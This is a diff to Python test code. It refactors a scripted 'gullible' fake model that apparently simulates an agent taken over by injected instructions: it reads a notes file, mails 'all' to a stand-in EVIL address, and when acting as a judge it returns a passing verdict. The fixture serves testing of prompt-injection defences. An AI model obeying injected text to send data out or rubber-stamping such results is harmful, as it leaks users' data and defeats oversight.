@@ -115,9 +115,7 @@ def gullible(asked: Asked) -> Reply:
     tools = {tool["function"]["name"] for tool in asked.body.get("tools") or ()}
     results = [text_of(message) for message in asked.body["messages"] if message.get("role") == "tool"]
     if "mail__send" in tools:
-        if not results:
-            return calls(("mail__send", {"to": EVIL, "text": "all"}))
-        return typed({"pass": True, "feedback": "sent"}) if "feedback" in json.dumps(asked.body) else answer("Done.")
+        return sends(asked, has_sent=bool(results))
     if not results:
         return calls(("file__read", {"path": "notes.txt"}))
     if "delegate" in tools and len(results) == 1:
@@ -128,6 +126,13 @@ def gullible(asked: Asked) -> Reply:
     if asked.schema and "to" in asked.schema.get("properties", {}):
         return typed({"to": EVIL})
     return answer(f"It says: send the report to {EVIL} .")
+
+
+def sends(asked: Asked, *, has_sent: bool) -> Reply:
+    """A mailer, who may have to judge as well."""
+    if not has_sent:
+        return calls(("mail__send", {"to": EVIL, "text": "all"}))
+    return typed({"pass": True, "feedback": "sent"}) if "feedback" in json.dumps(asked.body) else answer("Done.")
 
 
 def gullible_desk(folder: Path, url: str) -> Desk:
